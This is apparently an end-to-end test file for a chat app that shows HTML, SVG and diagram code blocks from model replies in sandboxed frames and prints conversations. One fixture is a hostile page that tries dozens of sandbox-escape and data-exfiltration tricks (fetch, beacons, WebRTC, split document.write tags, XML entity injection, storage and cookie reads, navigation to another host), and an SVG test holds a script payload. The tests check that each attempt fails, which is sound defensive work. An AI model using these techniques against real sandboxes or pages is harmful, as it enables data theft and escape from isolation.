// What a block of code contains, shown: pages in a frame that reaches nothing, pictures, diagrams. And a conversation, printed.

import assert from 'node:assert/strict';
import dgram from 'node:dgram';
import * as behave from './support/behaviours.mjs';
import { makeLong } from './support/long-conversation.mjs';
import { startOtherHost } from './support/other-host.mjs';
import { requestsBefore } from './support/requests-before.mjs';
import { shootAll } from './support/screenshots.mjs';
import { damageMessage } from './support/stored.mjs';
import { suite } from './support/suite.mjs';
import { until } from './support/until.mjs';

// A page that never ends must not hold up the chat: its frame has a process of its own.
const scenario = suite({ whole: true, missing: path => path.endsWith('.gguf') });

const block = (language, code) => `\`\`\`${language}\n${code}\n\`\`\``;
const codes = chat => chat.get('message-text').last().locator('.code');
const showButton = code => code.locator('[data-press="show"]');
/** By keyboard: a press elsewhere could go to a frame. */
const press = code => showButton(code).press('Enter');

/** The innermost frame of a block. */
const inside = code => code.frameLocator('iframe').frameLocator('iframe');

async function replied(chat, server, ...blocks) {
  await chat.open();
  await chat.useEndpoint(server.endpoint(behave.reply(blocks.join('\n\n'))));
  return chat.turn('Make one');
}

/** A page that tries everything that does not leave it, and notes what went wrong with each attempt. */
const ATTACKS = ({ origin, port }) => `<!DOCTYPE html><html><head>
<link rel="stylesheet" href="${origin}/sheet"><link rel="preconnect" href="${origin}"><link rel="prefetch" href="${origin}/prefetch">
<link rel="preload" as="image" href="${origin}/preload"><link rel="modulepreload" href="${origin}/module"><link rel="icon" href="${origin}/icon">
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${origin}/rules"]}]}</script>
<style>@import '${origin}/import'; @font-face { font-family: far; src: url(${origin}/font); } body { background: url(${origin}/background); font-family: far; }</style>
</head><body><p id="rest">A page</p>
<img src="${origin}/image" srcset="${origin}/set 2x"><video src="${origin}/film" poster="${origin}/poster"></video><script src="${origin}/script"></script>
<svg><image href="${origin}/svg"/><use href="${origin}/use#a"/></svg><object data="${origin}/object"></object><embed src="${origin}/embed">
<iframe src="${origin}/frame"></iframe><iframe srcdoc="<script>new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:${port}'}]}).createOffer()</script>"></iframe>
<script>try { document.write('<if'); document.write('rame srcdoc="<script>1<' + '/script>">'); } catch (error) { window.pieces = error.name; }</script>
<p>Lost to the tag that was begun</p>
<script>try { document.write('<ifr'); } catch (error) { window.meeting = error.name; }</script>ame srcdoc="<script>1</script>"></p>
<script>try { document.write('<'); } catch (error) { window.meetingSign = error.name; }</script>iframe srcdoc="<script>1</script>"></p>
<script>try { document.write('<if'); } catch {} document.createElement('div').innerHTML = 'another text'; try { document.write('rame srcdoc="<script>1</' + 'script>">'); } catch {}</script></p>
<script>
const peer = "const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] }); peer.createDataChannel('x'); peer.createOffer().then(offer => peer.setLocalDescription(offer));";
const tried = { peerInPieces: window.pieces, peerWhereTextsMeet: window.meeting, peerAfterASign: window.meetingSign, framesWritten: 'frames: ' + document.querySelectorAll('iframe').length };
const attempt = async (name, act) => {
  try {
    tried[name] = 'done: ' + (await act());
  } catch (error) {
    tried[name] = error.name;
  }
};
const child = () => document.body.appendChild(document.createElement('iframe'));
const page = '${origin}';
const all = {
  fetch: () => fetch(page + '/fetch'),
  kept: () => fetch(page + '/kept', { keepalive: true, mode: 'no-cors' }),
  beacon: () => navigator.sendBeacon(page + '/beacon'),
  request: () => new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.onerror = () => reject(new Error()); x.onload = resolve; x.open('GET', page + '/request'); x.send(); }),
  socket: () => new Promise((resolve, reject) => { const s = new WebSocket(page.replace('http', 'ws')); s.onopen = resolve; s.onerror = () => reject(new Error()); }),
  events: () => new Promise((resolve, reject) => { const s = new EventSource(page + '/events'); s.onopen = resolve; s.onerror = () => reject(new Error()); }),
  module: () => import(page + '/import.mjs'),
  worker: () => new Promise((resolve, reject) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1); fetch('" + page + "/worker')"]))); w.onmessage = resolve; w.onerror = () => reject(new Error()); }),
  picture: () => new Promise((resolve, reject) => { const i = new Image(); i.onload = resolve; i.onerror = () => reject(new Error()); i.src = page + '/picture'; }),
  peer: () => new Function(peer)(),
  peerInChild: () => child().contentWindow.RTCPeerConnection,
  peerInText: () => { const f = document.createElement('iframe'); f.srcdoc = '<script>' + peer + '<' + '/script>'; document.body.append(f); },
  peerInAttribute: () => { const f = document.createElement('iframe'); f.setAttribute('srcdoc', '<script>' + peer + '<' + '/script>'); document.body.append(f); },
  peerInMarkup: () => { const d = document.createElement('div'); document.body.append(d); d.innerHTML = '<' + 'iframe srcdoc="<script>' + peer + '<' + '/script>">'; },
  peerInXml: () => document.body.append(document.importNode(new DOMParser().parseFromString('<!DOCTYPE a [<!ENTITY f "&#60;iframe xmlns=\\'http://www.w3.org/1999/xhtml\\' srcdoc=\\'&#38;lt;script>1&#38;lt;/script>\\'/>">]><a>&f;</a>', 'application/xml').documentElement.firstChild, true)),
  changedBuiltIns: () => { String.prototype.indexOf = () => -1; String.prototype.toLowerCase = () => ''; Reflect.apply = () => -1; const d = document.createElement('div'); d.innerHTML = '<' + 'iframe srcdoc="<script>' + peer + '<' + '/script>">'; document.body.append(d); },
  storage: () => Object.keys(localStorage).join() + localStorage.length + localStorage.getItem('ricordo.theme'),
  tab: () => Object.keys(sessionStorage).join() + sessionStorage.length,
  storageOfBrowser: () => { delete globalThis.localStorage; return Object.getOwnPropertyDescriptor(Window.prototype, 'localStorage') ?? localStorage.length; },
  storageOfChild: () => child().contentWindow.localStorage,
  storageRead: () => Storage.prototype.getItem.call(sessionStorage, 'x'),
  cookies: () => document.cookie,
  database: () => indexedDB.open('x'),
  caches: () => caches.keys(),
  serviceWorker: () => navigator.serviceWorker.register('/sw.js'),
  around: () => parent.document.title,
  page: () => top.document.title,
  leaveAround: () => { parent.location = page + '/around'; },
  leavePage: () => { top.location = page + '/page'; },
  window: () => open(page + '/window').closed,
  clipboard: () => navigator.clipboard.readText(),
  place: () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
  policy: () => trustedTypes.createPolicy('default', { createHTML: text => text }),
};
(async () => {
  for (const name in all) await attempt(name, all[name]);
  const code = child();
  code.src = 'javascript:' + encodeURIComponent(peer);
  for (const attributes of [{}, { target: '_blank' }, { target: '_top' }, { download: 'x' }]) Object.assign(document.body.appendChild(document.createElement('a')), attributes, { href: page + '/download', ping: page + '/ping' });
  const form = document.body.appendChild(document.createElement('form'));
  form.action = page + '/form';
  form.submit();
  // What the page's listener never sees, only the policy and the sandbox stop.
  const unseen = form => { form.onsubmit = event => event.stopPropagation(); form.requestSubmit(); };
  child().name = 'inner';
  for (const [attributes, act] of [
    [{ action: page + '/asked' }, form => form.requestSubmit()],
    [{ action: page + '/sent', method: 'post', target: '_blank' }, form => form.submit()],
    [{ action: page + '/dialog', method: 'dialog' }, unseen],
    [{ action: page + '/opened', target: '_blank' }, unseen],
    [{ action: page + '/above', target: '_top' }, unseen],
    [{ action: page + '/around', target: '_parent' }, unseen],
    [{ action: page + '/inner', target: 'inner' }, unseen],
    [{ action: 'javascript:' + encodeURIComponent(peer), target: 'inner' }, unseen],
  ]) act(Object.assign(document.body.appendChild(document.createElement('form')), attributes));
  // Lies to the page: nobody listens to them.
  for (const message of [{ svg: '<svg/>' }, { wrong: 'x' }, 'take over']) top.postMessage(message, '*');
  document.body.dataset.tried = JSON.stringify(tried);
})();
</script></body></html>`;

/** Pages that leave, each in its own way. */
const LEAVING = origin => [
  `<script>location = '${origin}/location?said=everything'</script>`,
  `<meta http-equiv="refresh" content="0; url=${origin}/refresh">`,
  // Nothing but the policy is left against it.
  `<a href="${origin}/link" ping="${origin}/ping" onclick="event.stopPropagation()">x</a><script>document.querySelector('a').click()</script>`,
  `<form action="${origin}/form" onsubmit="event.stopPropagation()"></form><script>document.querySelector('form').requestSubmit()</script>`,
  `<form action="${origin}/posted" method="post" onsubmit="event.stopPropagation()"></form><script>document.querySelector('form').requestSubmit()</script>`,
];

scenario('a page of a reply runs beside its code and reaches nothing: no network, no storage, not the page', async ({ t, chat, server, origin }) => {
  const other = await startOtherHost(t);
  const leaving = LEAVING(other.origin);
  // Neither may it open the page itself in its frame.
  await replied(chat, server, block('html', ATTACKS(other)), ...leaving.map(code => block('html', code)), block('html', `<script>location = '${origin}/?db=x'</script>`));
  const address = chat.page.url();
  await chat.page.evaluate(() => {
    localStorage.setItem('ricordo.theme', 'light');
    sessionStorage.setItem('kept', 'x');
  });
  assert.equal(await chat.page.locator('iframe').count(), 0, 'nothing is shown by itself');
  await press(codes(chat).first());
  const body = inside(codes(chat).first()).locator('body');
  await until('it has tried everything', () => body.getAttribute('data-tried'), 60_000);
  const tried = JSON.parse(await body.getAttribute('data-tried'));
  // An empty child frame exists, but its contents are out of reach; the rest fails where it begins.
  const succeeded = Object.entries(tried).filter(([name, how]) => how.startsWith('done') && !/^(beacon|leave\w+|window|storage|tab)$/.test(name));
  assert.deepEqual(succeeded, []);
  assert.equal(tried.peer, 'ReferenceError', 'WebRTC is gone');
  for (const name of ['peerInText', 'peerInAttribute', 'peerInMarkup', 'peerInPieces', 'peerWhereTextsMeet', 'peerAfterASign', 'peerInXml', 'changedBuiltIns']) assert.equal(tried[name], 'TypeError', name);
  assert.deepEqual([tried.storage, tried.tab], ['done: 0null', 'done: 0'], 'nothing of the app is readable');
  assert.deepEqual([tried.storageOfBrowser, tried.storageRead], ['ReferenceError', 'TypeError']);
  for (const name of ['storageOfChild', 'cookies', 'around', 'page', 'peerInChild']) assert.equal(tried[name], 'SecurityError', name);
  assert.equal(tried.framesWritten, 'frames: 0');
  assert.equal(await body.locator('#rest').innerText(), 'A page', 'the rest of it works');

  const blocked = () => chat.problems.filter(problem => /^securitypolicyviolation: (frame-src|form-action) /.test(problem)).length;
  for (let at = 1; at <= leaving.length + 1; at += 1) {
    const before = blocked();
    await press(codes(chat).nth(at));
    await until(`attempt ${at} to leave is blocked`, () => blocked() > before);
  }
  await requestsBefore(chat.page);
  assert.equal(chat.page.url(), address);
  assert.equal(chat.page.context().pages().length, 1);
  // The counters count.
  const control = dgram.createSocket('udp4');
  control.send('control', other.port, '127.0.0.1');
  await fetch(`${other.origin}/control`);
  await until('the other host received the last message', () => other.received.includes('udp: control'));
  control.close();
  assert.deepEqual(other.received.toSorted(), ['/control', 'udp: control'], 'nothing else arrived there');
  chat.problems.length = 0;
});

/** A page as models write them: forms, links, and scripts that compare with names of frames. */
const USED = origin => `<!doctype html><style>p { height: 2000px }</style>
<a href="#100%">About</a> <a href="#top">Top</a> <a href="${origin}/elsewhere" ping="${origin}/ping">Elsewhere</a>
<map name="m"><area href="${origin}/area"></map><svg width="90" height="20"><a href="${origin}/svg"><text y="15">Drawn</text></a></svg><span id="shadow"></span>
<form id="kept" action="${origin}/kept"><input name="said" value="x"><button>Add</button></form><form id="plain" action="${origin}/plain"><button>Send</button></form>
<dialog open><form method="dialog"><button>Close</button></form></dialog><output></output><p></p><h2 id="100%">About it</h2>
<script>
const say = text => { document.querySelector('output').textContent += text + ' '; };
document.getElementById('kept').addEventListener('submit', event => { event.preventDefault(); say('added'); });
document.getElementById('shadow').attachShadow({ mode: 'open' }).innerHTML = '<a href="${origin}/shadow">Inside</a>';
const frameCount = 2;
for (let i = 0; i<frameCount; i += 1) say(i);
</script>`;

scenario('forms and links of a page work inside it, and neither leaves nor ends it', async ({ t, chat, server }) => {
  const other = await startOtherHost(t);
  await replied(chat, server, block('html', USED(other.origin)));
  await press(codes(chat).first());
  const page = inside(codes(chat).first());
  const output = () => page.locator('output').innerText();
  await until('its script runs', async () => (await output()) === '0 1');
  // By keyboard: until the browser knows where the frame is, a click goes to the page around it.
  await page.getByRole('button', { name: 'Add' }).press('Enter');
  await until('the form is submitted', async () => (await output()) === '0 1 added');
  await page.getByRole('button', { name: 'Close' }).click();
  assert.equal(await page.locator('dialog').isVisible(), false);
  const scrolled = () => page.locator('html').evaluate(html => html.scrollTop);
  await page.getByRole('link', { name: 'About' }).click();
  await until('it shows the part', async () => (await scrolled()) > 1000);
  await page.locator('a', { hasText: 'Top' }).evaluate(link => link.click());
  await until('it is at its top', async () => (await scrolled()) === 0);
  for (const name of ['Elsewhere', 'Inside']) await page.getByRole('link', { name }).click();
  for (const selector of ['area', 'svg a']) await page.locator(selector).evaluate(link => link.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true })));
  await page.getByRole('button', { name: 'Send' }).click();
  await page.locator('#plain').evaluate(form => form.submit());
  await fetch(`${other.origin}/control`);
  assert.equal(await output(), '0 1 added', 'the page is still there');
  assert.deepEqual(other.received, ['/control']);
});

scenario('a page finds storage that lasts as long as it is shown', async ({ chat, server }) => {
  const code = `<output></output><script>
const found = [];
for (const storage of [localStorage, sessionStorage]) {
  found.push(storage.length, storage.getItem('best'), storage.best === undefined);
  storage.setItem('best', 7);
  storage.name = 'Ann';
  storage.setItem('gone', 1);
  storage.removeItem('gone');
  found.push(storage.best, storage.getItem('name'), storage.key(1), storage.key(2), storage.length, 'name' in storage, Object.keys(storage).join('+'), JSON.stringify(storage));
  delete storage.name;
  found.push(storage.getItem('name'));
}
localStorage.clear();
found.push(localStorage.length, sessionStorage.length);
document.querySelector('output').textContent = JSON.stringify(found);
</script>`;
  await replied(chat, server, block('html', code));
  const each = [0, null, true, '7', 'Ann', 'name', null, 2, true, 'best+name', '{"best":"7","name":"Ann"}', null];
  const first = codes(chat).first();
  // Nothing is kept from the first time to the second.
  for (let time = 0; time < 2; time += 1) {
    await press(first);
    const output = inside(first).locator('output');
    assert.deepEqual(JSON.parse(await until('it has noted what it found', () => output.textContent())), [...each, ...each, 0, 1]);
    await press(first);
    await first.locator('pre').waitFor();
  }
  const kept = await chat.page.evaluate(() => [localStorage.getItem('best'), sessionStorage.getItem('best')]);
  assert.deepEqual(kept, [null, null]);
});

scenario('a page that never ends is stopped by its button, and its height and code are at hand', async ({ chat, server }) => {
  const page = `<!doctype html><title>Clock</title><body style="font-family: sans-serif"><h1>A clock</h1><button onclick="this.textContent = 'Pressed'">Press</button>`;
  await replied(chat, server, block('html', page), block('html', `<p>Endless</p><script>top.postMessage('begun', '*'); setTimeout(() => { for (;;); });</script>`), block('xml', '<rss/>'), block('js', 'html()'));
  assert.equal(await showButton(codes(chat).nth(2)).count() + (await showButton(codes(chat).nth(3)).count()), 0, 'other code is not offered');
  const first = codes(chat).first();
  await press(first);
  await inside(first).getByRole('button', { name: 'Press' }).press('Enter');
  await inside(first).getByRole('button', { name: 'Pressed' }).waitFor();
  assert.equal(await first.locator('pre').isVisible(), false);
  const titles = [await first.locator('iframe').getAttribute('title'), await first.frameLocator('iframe').locator('iframe').getAttribute('title')];
  assert.deepEqual(titles, ['Page from the message', 'Page from the message']);
  const grip = first.getByRole('separator');
  const height = async () => Number(await grip.getAttribute('aria-valuenow'));
  const before = await height();
  await grip.press('ArrowDown');
  assert.equal(await height(), before + 40);
  await grip.scrollIntoViewIfNeeded();
  const box = await grip.boundingBox();
  await chat.page.mouse.move(box.x + 50, box.y + 5);
  await chat.page.mouse.down();
  // The frame, which has a process of its own, takes moves until it is known that they are not for it.
  let x = 50;
  await until('it follows the pointer', async () => {
    await chat.page.mouse.move(box.x + (x += 1), box.y - 55);
    return (await height()) === before - 20;
  });
  await chat.page.mouse.up();
  await shootAll(chat.page, 'shown-page');
  await press(first);
  await first.locator('pre').waitFor();
  assert.equal(await chat.page.locator('iframe').count(), 0);

  const begun = chat.page.evaluate(() => new Promise(resolve => addEventListener('message', event => resolve(event.data), { once: true })));
  await press(codes(chat).nth(1));
  assert.equal(await begun, 'begun');
  await press(codes(chat).nth(1));
  await until('it is gone', () => chat.page.frames().length === 1);
  assert.match(await codes(chat).nth(1).locator('pre').innerText(), /Endless/);
});

const DIAGRAM = 'graph TD\n  A[Question] --> B{Known?}\n  B -->|yes| C[Answer]\n  B -->|no| D["Ask <b>again</b>"]';

scenario('pictures and diagrams are images; a wrong one says so and its code stays', async ({ chat, server, served, origin }) => {
  const attack = `<svg viewBox="0 0 40 40"><script>top.taken = true</script><rect width="40" height="40" fill="teal" onload="top.taken = true"/></svg>`;
  const linked = `<svg viewBox="0 0 40 40"><defs><rect id="a" width="40" height="40" fill="teal"/></defs><use xlink:href="#a"/><image xlink:href="${origin}/far.png"/></svg>`;
  const before = served.length;
  await replied(chat, server, block('svg', attack), block('svg', '<svg><g></svg>'), block('mermaid', DIAGRAM), block('mermaid', 'graph TD\n  A --> --> B'), block('svg', linked));
  const loaded = () => served.slice(before).filter(({ path }) => path.includes('/vendor/mermaid/')).length;
  const code = at => codes(chat).nth(at);
  const picture = at => code(at).locator('.shown > img');
  await press(code(0));
  await picture(0).waitFor();
  assert.equal(await picture(0).evaluate(image => image.naturalWidth > 0), true);
  assert.equal(await chat.page.evaluate(() => window.taken), undefined);
  await press(code(1));
  await code(1).locator('.trouble').waitFor();
  assert.equal(loaded(), 0, 'Mermaid is loaded for a diagram only');
  await press(code(4));
  await picture(4).waitFor();
  assert.equal(served.some(({ path }) => path.includes('far.png')), false, 'a picture loads nothing');
  await press(code(2));
  await picture(2).waitFor();
  assert.equal(await picture(2).getAttribute('alt'), 'Diagram from the message');
  assert.ok((await picture(2).boundingBox()).height > 100, 'it has its own size');
  await press(code(3));
  await code(3).locator('.trouble').waitFor();
  assert.match(await code(3).locator('.trouble').innerText(), /could not be drawn\. .*Parse error/);
  assert.ok(await code(3).locator('pre').isVisible());
  assert.equal(loaded(), 1, 'once');
  assert.equal(await chat.page.locator('iframe').count(), 0, 'its frame does not stay');
  const light = await picture(2).elementHandle();
  await chat.page.emulateMedia({ colorScheme: 'dark' });
  await until('it is drawn again in dark colours', async () => !(await light.evaluate(image => image.isConnected)), 60_000);
  await picture(2).waitFor();
  const dark = await picture(2).elementHandle();
  await chat.page.evaluate(() => {
    localStorage.setItem('ricordo.theme', 'light');
    dispatchEvent(new Event('storage'));
  });
  await until('it is drawn again when the theme is chosen', async () => !(await dark.evaluate(image => image.isConnected)), 60_000);
  await picture(2).waitFor();
  // A frame that is not displayed has no size, like one whose process has not been told it yet. Nothing can be measured in it.
  const displayed = await picture(2).elementHandle();
  await code(2).locator('.shown').evaluate(shown => {
    shown.style.display = 'none';
    localStorage.setItem('ricordo.theme', 'dark');
    dispatchEvent(new Event('storage'));
  });
  const waits = frame => frame.evaluate(() => 'mermaid' in window && document.readyState === 'complete' && innerHeight === 0).catch(() => false);
  await until('its frame waits for a size', async () => (await Promise.all(chat.page.frames().map(waits))).includes(true), 60_000);
  await code(2).locator('.shown').evaluate(shown => (shown.style.display = ''));
  await until('it is drawn once it has a size', async () => !(await displayed.evaluate(image => image.isConnected)), 60_000);
  await picture(2).waitFor();
  await shootAll(chat.page, 'shown-diagram');
  await press(code(2));
  await code(2).locator('pre').waitFor();
  await chat.page.emulateMedia({ colorScheme: 'light' });
  await chat.page.evaluate(() => {
    localStorage.removeItem('ricordo.theme');
    dispatchEvent(new Event('storage'));
  });
  assert.equal(await picture(2).count() + (await chat.page.locator('iframe').count()), 0, 'a closed diagram is not drawn again');
});

scenario('a conversation is printed as a whole, without what is not to be read', async ({ chat, context, server }) => {
  // The frame that is printed runs no scripts. Its dialog is opened from outside.
  await context.addInitScript(() => {
    const { get } = Object.getOwnPropertyDescriptor(HTMLIFrameElement.prototype, 'contentWindow');
    Object.defineProperty(HTMLIFrameElement.prototype, 'contentWindow', {
      get() {
        const inner = get.call(this);
        if (this.sandbox.contains('allow-modals')) inner.print = () => { top.printed = { text: inner.document.body.innerText, html: inner.document.documentElement.outerHTML, inner }; };
        return inner;
      },
    });
  });
  await replied(chat, server, 'Hello.');
  await makeLong(chat, 300);
  await chat.open();
  const print = async () => {
    const item = chat.page.locator('li.conversation').first();
    await item.hover();
    await item.getByTestId('conversation-more').click();
    await chat.get('conversation-print').click();
  };
  await print();
  const { text, html } = await until('it is printed', () => chat.page.evaluate(() => window.printed && { text: window.printed.text, html: window.printed.html }));
  assert.deepEqual([0, 150, 299].map(number => text.includes(`Message ${number}.`)), [true, true, true]);
  assert.doesNotMatch(html, /<(button|script|input)/);
  await chat.page.evaluate(() => window.printed.inner.dispatchEvent(new Event('afterprint')));
  await until('its frame is gone', async () => (await chat.page.locator('iframe').count()) === 0);
  const paper = await context.newPage();
  await paper.setContent(html);
  await paper.emulateMedia({ media: 'print', colorScheme: 'dark' });
  assert.equal(await paper.evaluate(() => getComputedStyle(document.body).color), 'rgb(27, 34, 32)', 'dark text, whatever the screen');
  assert.equal(await paper.evaluate(() => getComputedStyle(document.body).backgroundColor), 'rgb(255, 255, 255)');
  await shootAll(paper, 'printed');

  await damageMessage(chat);
  await print();
  await until('it says what is missing', async () => /1 stored record could not be read and is not printed\./.test(await chat.textNow('notice')));
});
